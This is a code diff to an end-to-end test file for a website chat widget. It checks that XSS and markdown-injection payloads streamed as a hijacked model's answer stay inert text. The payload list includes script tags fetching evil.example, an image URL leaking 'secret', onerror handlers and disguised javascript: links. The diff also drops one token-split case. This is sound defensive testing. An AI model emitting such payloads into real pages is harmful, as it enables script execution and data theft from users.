@@ -6,7 +6,7 @@ import re
 import pytest
 from playwright.sync_api import Dialog, Page, Request, expect
 
-from tests.doubles.scripted_widget_api import Emit, citations, done, status, tokens
+from tests.doubles.scripted_widget_api import Emit, Hold, citations, done, status, tokens
 from tests.e2e.chat import Chat
 from tests.e2e.conftest import Site
 
@@ -154,21 +154,20 @@ def test_nothing_is_left_in_print(page: Page, site: Site) -> None:
     expect(chat.panel).to_be_hidden()
 
 
-OBEYED = [
-    pytest.param("<script>fetch('https://evil.example/')</script>", id="script"),
-    pytest.param("<img src=x onerror=\"alert('x')\">", id="handler"),
-    pytest.param("<img src='https://evil.example/b.gif'>", id="remote picture in HTML"),
-    pytest.param("![logo](https://evil.example/p.png?d=secret)", id="remote picture"),
-    pytest.param("![\" onerror=\"alert('x')](x)", id="handler in a description"),
-    pytest.param("[here](javascript:alert('x'))", id="script address"),
-    pytest.param("[here](JaVa\tScript:alert('x'))", id="script address in disguise"),
-    pytest.param("[here](data:text/html;base64,PHNjcmlwdD4=)", id="data address"),
-    pytest.param("<svg><script>alert('x')</script></svg>", id="script in a drawing"),
-    pytest.param("<iframe srcdoc=\"<script>alert('x')</script>\"></iframe>", id="frame"),
-    pytest.param("<scr|ipt>alert('x')</scr|ipt>", id="script cut by tokens"),
-    pytest.param("[good.example](https://good.example@evil.example/)", id="host in the user name"),
-    pytest.param("[![x](https://evil.example/a.png)](javascript:alert(1))", id="picture in a link"),
-]
+OBEYED = (
+    "<script>fetch('https://evil.example/')</script>",
+    "<img src=x onerror=\"alert('x')\">",
+    "<img src='https://evil.example/b.gif'>",
+    "![logo](https://evil.example/p.png?d=secret)",
+    "![\" onerror=\"alert('x')](x)",
+    "[here](javascript:alert('x'))",
+    "[here](JaVa\tScript:alert('x'))",
+    "[here](data:text/html;base64,PHNjcmlwdD4=)",
+    "<svg><script>alert('x')</script></svg>",
+    "<iframe srcdoc=\"<script>alert('x')</script>\"></iframe>",
+    "[good.example](https://good.example@evil.example/)",
+    "[![x](https://evil.example/a.png)](javascript:alert(1))",
+)
 
 
 @pytest.fixture
@@ -189,12 +188,12 @@ def trapped(page: Page) -> list[str]:
     return caught
 
 
-@pytest.mark.parametrize("text", OBEYED)
-def test_what_a_captured_model_writes_stays_text_at_every_prefix(
-    page: Page, site: Site, trapped: list[str], text: str
-) -> None:
-    whole = text.replace("|", "")
-    site.api.script[QUESTION] = [*(Emit({"event": "token", "token": char}, 0.004) for char in whole), done()]
+def test_what_a_captured_model_writes_stays_text_at_every_prefix(page: Page, site: Site, trapped: list[str]) -> None:
+    for at, text in enumerate(OBEYED):
+        site.api.script[f"Question {at}?"] = [
+            *(Emit({"event": "token", "token": char}, 0.004) for char in text),
+            done(),
+        ]
     chat = Chat.opened(page, site)
     page.evaluate(
         """() => {
@@ -208,10 +207,12 @@ def test_what_a_captured_model_writes_stays_text_at_every_prefix(
           new MutationObserver(look).observe(root, { childList: true, subtree: true, attributes: true });
         }"""
     )
-    chat.ask(QUESTION)
-    chat.finish()
-    assert page.evaluate("window.seen ?? []") == []
-    assert trapped == []
+    for at, text in enumerate(OBEYED):
+        chat.ask(f"Question {at}?")
+        expect(chat.answers).to_have_count(at + 1)
+        chat.finish()
+        assert page.evaluate("window.seen ?? []") == [], text
+        assert trapped == [], text
 
 
 def test_a_link_away_from_the_website_shows_where_it_leads(page: Page, site: Site) -> None:
@@ -232,16 +233,13 @@ def test_the_built_file_has_no_way_to_parse_markup_or_run_text(site: Site) -> No
 
 
 def test_leaving_and_coming_back_goes_on_with_the_answer(page: Page, site: Site) -> None:
-    site.api.script[QUESTION] = [
-        *tokens("You have "),
-        *(Emit({"event": "token", "token": "."}, 0.1) for _ in range(8)),
-        done(),
-    ]
+    site.api.script[QUESTION] = [*tokens("You have "), Hold(), *tokens("30 days."), done()]
     chat = Chat.opened(page, site)
     chat.ask(QUESTION)
     expect(chat.answer).to_contain_text("You have")
     page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }))")
     expect(chat.answers.last).to_contain_text("Reconnecting")
     page.evaluate("dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }))")
+    site.api.release()
     chat.finish()
-    expect(chat.answer).to_have_text("You have ........")
+    expect(chat.answer).to_have_text("You have 30 days.")
